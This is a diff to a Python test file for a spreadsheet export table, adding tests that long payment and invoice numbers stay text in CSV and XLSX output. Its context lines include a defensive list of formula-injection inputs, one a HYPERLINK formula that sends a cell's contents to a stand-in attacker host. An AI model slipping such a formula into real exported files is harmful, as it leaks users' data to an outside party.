@@ -21,6 +21,16 @@ TABLE = Table[Row](
         Column("count", "数量", itemgetter(2)),
     ),
 )
+LONG_NUMBERS = [
+    "4200000000202611290000000001",
+    "26442000000000000001",
+    "20261129101500000000012345678901",
+    "2026112910150000123e456789012345",
+    "1E5",
+    "01234567",
+    "202611291015",
+]
+"""Of WeChat Pay, invoices and our own: a spreadsheet shows 4.2E+27."""
 INJECTIONS = [
     '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
     "=1+1",
@@ -63,6 +73,21 @@ def test_no_text_becomes_a_formula_or_a_link(tmp_path: Path, text: str) -> None:
     shown = read_csv(written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]))[1][0]
     assert not shown.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
     assert shown[:1] not in ("\t", "\r", "\n", "\0")
+
+
+@pytest.mark.parametrize("text", LONG_NUMBERS)
+def test_a_long_number_stays_a_text_for_spreadsheets(tmp_path: Path, text: str) -> None:
+    csv_text = written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]).decode("utf-8-sig")
+    assert csv_text.splitlines()[1] == f"'{text},0.01,1"
+    written(XlsxTable, tmp_path / "x.xlsx", [(text, 1, 1)])
+    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]["A2"]
+    assert (cell.value, cell.data_type) == (text, "s")
+
+
+@pytest.mark.parametrize("text", ["2026-03-02 12:00:00", "12345678901", "0", "3e", "20260302-1", "课程 course"])
+def test_what_no_spreadsheet_changes_is_written_as_it_is(tmp_path: Path, text: str) -> None:
+    csv_text = written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]).decode("utf-8-sig")
+    assert csv_text.splitlines()[1] == f"{text},0.01,1"
 
 
 @pytest.mark.parametrize(
